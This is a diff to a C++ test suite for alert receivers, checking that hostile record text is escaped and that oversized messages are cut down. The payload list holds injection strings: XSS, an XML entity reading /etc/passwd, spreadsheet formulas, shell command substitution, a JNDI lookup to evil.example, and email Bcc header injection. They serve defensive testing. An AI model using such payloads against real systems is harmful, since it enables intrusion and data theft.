@@ -59,6 +59,27 @@ const std::vector<Payload>& payloads() {
       {"\"}],\"x\":[{\"", {}},
       {"@everyone @channel @here", {}},
       {"<script>alert(1)</script>&", {"<script>"}},
+      {"\"><img src=x onerror=alert(1)>", {"<img"}},
+      {"<at>everyone</at>", {"<at>"}},
+      {"[wiki](http://evil.example) ![x](http://evil.example/p.png)", {}},
+      {"http://evil.example/a?b=c mailto:a@evil.example", {}},
+      {"# heading\n- list\n1. list\n---", {"\n-"}},
+      {"]]><x/>", {"<x/>"}},
+      {"<!ENTITY x SYSTEM \"file:///etc/passwd\">&x;", {"<!ENTITY"}},
+      {"<0>kernel: panic", {"<0>"}},
+      {"1 2026-01-01T00:00:00Z h a - - [x@1 y=\"z\"] fake", {}},
+      {"a\"} 1\nfake_metric{x=\"", {"\nfake"}},
+      {"\",\"outcome\":\"success\",\"x\":\"", {}},
+      {"+1+1", {}},
+      {"=HYPERLINK(\"http://evil.example\")", {}},
+      {"a\",\"b\n=1", {"\n="}},
+      {"\xD0\xB0"
+       "dmin",
+       {}},
+      {"$(touch /tmp/gwpwn) `id` ${jndi:ldap://evil.example/a} {{7*7}} %s%n", {}},
+      {"x\r\nBcc: all@evil.example\r\n\r\nbody\r\n.\r\nMAIL FROM:<a@evil.example>", {"\r", "\nBcc"}},
+      {"=?utf-8?q?forged?= <a@evil.example>", {}},
+      {std::string(5000, 'A'), {}},
   };
   return kPayloads;
 }
@@ -187,8 +208,37 @@ TEST_P(ReceiverSuite, TellsEveryKindOfFactAsJsonOfAFewKilobytes) {
   }
   for (const StandInRequest& request : stand_in.requests()) {
     json::Doc doc;
-    EXPECT_TRUE(doc.parse(request.body)) << request.body;
-    EXPECT_LT(request.body.size(), 20'000u);
+    for (const std::string& document : documents(request)) EXPECT_TRUE(doc.parse(document)) << document;
+    EXPECT_LT(request.body.size(), GetParam().limit);
+  }
+}
+
+TEST_P(ReceiverSuite, AMessageThatIsTooLargeIsCutToWhatTheServiceTakes) {
+  const std::string endless(100'000, 'A');
+  Message large = hostile(endless);
+  model::Session& s = *large.facts[0].session;
+  for (int i = 0; i < 500; ++i) {
+    const std::string text = std::string(500, '<') + std::to_string(i);
+    s.high_risk[text] = s.addresses[text] = {receivers::kStart, receivers::kStart, 2, text};
+    s.notes.push_back({receivers::kStart, text, text});
+    s.planned.push_back(text);
+    s.feeds.insert(text);
+  }
+  ports::Claim storm = sample_change(AlertKind::storm);
+  storm.alert.data = "{\"sessions\":[";
+  for (int i = 0; i < 5000; ++i) storm.alert.data += (i == 0 ? "\"" : ",\"") + receivers::kSessionId + "\"";
+  storm.alert.data += "]}";
+  ports::Claim other = sample_change(AlertKind::undecodable);
+  other.alert.data = R"({"reason":")" + endless + R"(","source":")" + endless + "\"}";
+  other.alert.reason = other.alert.fact = other.alert.watch = endless;
+  for (Message message : {large, hostile_change(endless), sample_message({storm}), sample_message({other})}) {
+    message.telling.watch_owner = message.telling.runbook = endless;
+    EXPECT_EQ(receiver->send(message, kPlenty).verdict, SendVerdict::accepted);
+  }
+  for (const StandInRequest& request : stand_in.requests()) {
+    json::Doc doc;
+    for (const std::string& document : documents(request)) EXPECT_TRUE(doc.parse(document)) << document;
+    EXPECT_LE(request.body.size(), GetParam().limit);
   }
 }
 
@@ -202,7 +252,8 @@ TEST_P(ReceiverSuite, NothingFromARecordIsObeyed) {
     ASSERT_FALSE(stand_in.requests().empty());
     for (const StandInRequest& request : stand_in.requests()) {
       json::Doc doc;
-      ASSERT_TRUE(doc.parse(request.body)) << request.body;
+      for (const std::string& document : documents(request)) ASSERT_TRUE(doc.parse(document)) << document;
+      if (GetParam().look) GetParam().look(payload.text, request.body);
       // On the wire nothing is raw, whoever shows the body.
       for (std::size_t i = 0; i < request.body.size();) {
         const Utf8Char c = next_utf8(request.body, i);
